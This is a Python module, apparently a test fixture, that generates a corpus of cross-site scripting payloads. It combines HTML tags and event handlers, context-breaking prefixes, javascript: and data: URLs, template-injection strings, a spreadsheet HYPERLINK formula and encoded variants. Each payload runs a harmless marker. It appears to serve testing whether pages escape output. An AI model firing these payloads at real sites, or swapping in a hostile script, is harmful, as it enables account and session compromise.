"""Text that becomes code wherever a page forgets to escape it: markup, attributes, addresses, templates, encodings."""

from __future__ import annotations

from itertools import product

MARK = "window.__xss=1"

_TAGS = (
    "<script>{code}</script>",
    "<img src=x onerror={code}>",
    "<svg onload={code}>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<details open ontoggle={code}>x",
    "<input autofocus onfocus={code}>",
    "<body onload={code}>",
    "<video><source onerror={code}>",
    "<audio src=x onerror={code}>",
    "<object data=x onerror={code}>",
    "<iframe srcdoc='<script>parent.{code}</script>'></iframe>",
    '<iframe src="javascript:parent.{code}"></iframe>',
    '<a href="javascript:{code}">x</a>',
    '<form action="javascript:{code}"><button>x</button></form>',
    "<math><mtext><style><img src=x onerror={code}></style></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror={code}>"></noscript>',
    "<template><img src=x onerror={code}></template>",
    '<base href="javascript:{code}//">',
    '<meta http-equiv=refresh content="0;url=javascript:{code}">',
    '<link rel=stylesheet href="javascript:{code}">',
)
_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "-->", "]]>")
_OTHERS = (
    "javascript:{code}",
    "data:text/html,<script>{code}</script>",
    "{{{{constructor.constructor('{code}')()}}}}",
    "${{{code}}}",
    '=HYPERLINK("javascript:{code}")',
    "\\u003cscript\\u003e{code}\\u003c/script\\u003e",
    "&lt;script&gt;{code}&lt;/script&gt;",
    "%3Cscript%3E{code}%3C/script%3E",
)
PAYLOADS = tuple(
    text.format(code=MARK) for text in (*(before + tag for before, tag in product(_BREAKS, _TAGS)), *_OTHERS)
)
